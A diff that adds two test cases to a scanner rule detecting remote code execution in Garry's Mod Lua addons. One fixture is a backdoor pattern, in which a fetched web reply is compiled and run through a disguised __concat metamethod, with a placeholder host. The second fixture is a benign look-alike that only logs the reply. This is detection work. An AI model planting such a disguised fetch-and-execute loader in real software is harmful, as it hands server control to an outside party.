@@ -664,4 +664,34 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeLessThan(RANK.high);
   });
+  it('a web reply joined to an object whose __concat compiles it', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_news.lua': [
+        'local meta = {}',
+        'meta.__concat = function(self, text)',
+        ' if string.sub(text, 1, 3) == "--!" then local f = CompileString(string.sub(text, 4), "pragma", false) if f then f() end end',
+        ' return self',
+        'end',
+        'local Log = setmetatable({}, meta)',
+        'http.Fetch("https://news.example.invalid/feed.txt", function(body)',
+        ' local _ = Log .. body',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a web reply joined to an object whose __concat writes it to a log file', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_news.lua': [
+        'local meta = {}',
+        'meta.__concat = function(self, text) file.Append("news_log.txt", tostring(text) .. "\\n") return self end',
+        'local Log = setmetatable({}, meta)',
+        'concommand.Add("news_reload", function(ply) if IsValid(ply) and not ply:IsSuperAdmin() then return end RunString("print(1)") end)',
+        'http.Fetch("https://news.example.invalid/feed.txt", function(body)',
+        ' local _ = Log .. body',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.high);
+  });
 });
